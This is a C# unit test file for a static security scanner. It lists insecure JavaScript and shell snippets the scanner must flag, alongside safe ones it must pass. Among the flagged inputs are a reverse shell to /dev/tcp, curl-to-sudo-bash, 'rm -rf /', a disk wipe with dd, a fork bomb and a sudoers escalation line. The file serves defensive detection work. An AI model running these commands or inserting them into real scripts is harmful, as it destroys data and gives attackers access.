using Platform.Validation;

namespace Platform.Tests.Validation;

/// <summary>JavaScript, TypeScript and shell.</summary>
public sealed class ScriptSecuritySpec
{
    [Theory]
    [InlineData("SEC301", "eval(input)")]
    [InlineData("SEC302", "const f = new Function('a', body)")]
    [InlineData("SEC303", "setTimeout('run(' + x + ')', 10)")]
    [InlineData("SEC304", "const { exec } = require('child_process'); exec('ls ' + dir)")]
    [InlineData("SEC304", "child_process.execSync(`git log ${branch}`)")]
    [InlineData("SEC304", "spawn('ls ' + x, { shell: true })")]
    [InlineData("SEC305", "el.innerHTML = '<b>' + name + '</b>'")]
    [InlineData("SEC305", "document.write(location.hash)")]
    [InlineData("SEC306", "const a = { dangerouslySetInnerHTML: { __html: text } }")]
    [InlineData("SEC307", "crypto.createHash('md5').update(x)")]
    [InlineData("SEC308", "crypto.createCipheriv('aes-128-ecb', k, null)")]
    [InlineData("SEC309", "new https.Agent({ rejectUnauthorized: false })")]
    [InlineData("SEC309", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'")]
    [InlineData("SEC310", "db.query(`SELECT * FROM t WHERE id = ${id}`)")]
    [InlineData("SEC310", "db.query(\"SELECT * FROM t WHERE n = '\" + n + \"'\")")]
    [InlineData("SEC311", "fs.readFile('/data/' + req.params.name, cb)")]
    [InlineData("SEC312", "res.redirect(req.query.next)")]
    [InlineData("SEC313", "vm.runInNewContext(code)")]
    [InlineData("SEC314", "serialize.unserialize(x)")]
    [InlineData("SEC315", "jwt.verify(token, '')")]
    [InlineData("SEC316", "cors({ origin: '*', credentials: true })")]
    [InlineData("SEC317", "res.cookie('a', b, { httpOnly: false })")]
    [InlineData("SEC318", "other.postMessage(data, '*')")]
    [InlineData("SEC319", "const token = Math.random().toString(36)")]
    [InlineData("SEC320", "new RegExp(req.query.q)")]
    [InlineData("SEC321", "fetch(req.query.url)")]
    [InlineData("SEC322", "res.send('<h1>' + req.query.name + '</h1>')")]
    [InlineData("SEC323", "users.find(req.body)")]
    [InlineData("SEC327", "require(req.params.plugin)")]
    [InlineData("SEC329", "const b = new Buffer(n)")]
    public async Task Scan_WeakScript_IsFound(string rule, string code)
    {
        (await Scan.FileAsync("a.js", "// first line\n" + code)).ShouldHold(rule, 2);
        (await Scan.FileAsync("a.ts", "/* first\n   lines */\n" + code)).ShouldHold(rule, 3);
    }

    [Theory]
    [InlineData("const m = pattern.exec(text)")]
    [InlineData("// eval(input)\nconst a = 'eval(input)'")]
    [InlineData("const cmd = 'ls -l';\nexec(cmd)")]
    [InlineData("execFile('git', ['log', branch])")]
    [InlineData("el.textContent = name; el.innerHTML = ''")]
    [InlineData("el.innerHTML = DOMPurify.sanitize(text)")]
    [InlineData("db.query('SELECT * FROM t WHERE id = ?', [id])")]
    [InlineData("const table = 't';\ndb.query(`SELECT * FROM ${table}`)")]
    [InlineData("setTimeout(() => run(x), 10)")]
    [InlineData("const jitter = Math.random() * 10")]
    [InlineData("const re = /['\"`]/g; const b = a / c / d;")]
    [InlineData("crypto.createHash('sha256').update(x)")]
    public async Task Scan_SafeScript_IsClean(string code) => (await Scan.FileAsync("a.js", code)).ShouldBeClean();

    [Theory]
    [InlineData("SEC401", "curl -s https://x.example/i.sh | sudo bash")]
    [InlineData("SEC401", "bash <(curl -s https://x.example/i.sh)")]
    [InlineData("SEC402", "eval \"$cmd\"")]
    [InlineData("SEC403", "rm -rf $DIR")]
    [InlineData("SEC403", "rm -rf \"$DIR/\"*")]
    [InlineData("SEC403", "rm -rf /")]
    [InlineData("SEC404", "chmod 777 /srv")]
    [InlineData("SEC404", "chmod -R a+rw /srv")]
    [InlineData("SEC405", "curl -k https://x.example")]
    [InlineData("SEC405", "wget -q --no-check-certificate https://x.example")]
    [InlineData("SEC406", "echo a > /tmp/state")]
    [InlineData("SEC407", "ssh -o StrictHostKeyChecking=no host ls")]
    [InlineData("SEC408", "sshpass -p abc ssh host")]
    [InlineData("SEC409", "cp $1 /srv")]
    [InlineData("SEC410", "export PATH=.:$PATH")]
    [InlineData("SEC411", "echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")]
    [InlineData("SEC412", "docker run --privileged image")]
    [InlineData("SEC413", "dd if=/dev/zero of=/dev/sda")]
    [InlineData("SEC416", "bash -c \"ls $name\"")]
    [InlineData("SEC418", "f=$(mktemp -u)")]
    [InlineData("SEC419", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1")]
    [InlineData("SEC420", "echo aGk= | base64 -d | sh")]
    [InlineData("SEC421", ":(){ :|:& };:")]
    public async Task Scan_WeakShell_IsFound(string rule, string code) => (await Scan.FileAsync("a.sh", "#!/bin/bash\n" + code)).ShouldHold(rule, 2);

    [Theory]
    [InlineData("curl -fsSL https://x.example/a.tgz -o a.tgz && sha256sum -c a.sum")]
    [InlineData("echo 'curl x | sh'")]
    [InlineData("echo \"use curl x | sh\"")]
    [InlineData("# rm -rf $DIR")]
    [InlineData("rm -rf \"${dir:?}/build\"")]
    [InlineData("rm -f \"$file\"")]
    [InlineData("chmod 755 run.sh; chmod +x run.sh; chmod 0644 a")]
    [InlineData("cp \"$1\" /srv")]
    [InlineData("cat <<'END'\nrm -rf $DIR\nEND")]
    [InlineData("f=$(mktemp)")]
    [InlineData("bash -c 'echo \"$1\"' sh \"$name\"")]
    public async Task Scan_SafeShell_IsClean(string code) => (await Scan.FileAsync("a.sh", "#!/bin/bash\n" + code + "\n")).ShouldBeClean();

    [Fact]
    public async Task Scan_ContinuedLine_IsReportedWhereItBegins() => (await Scan.FileAsync("a.sh", "#!/bin/sh\ncurl -s https://x.example \\\n  | sh\n")).ShouldHold("SEC401", 2);
}
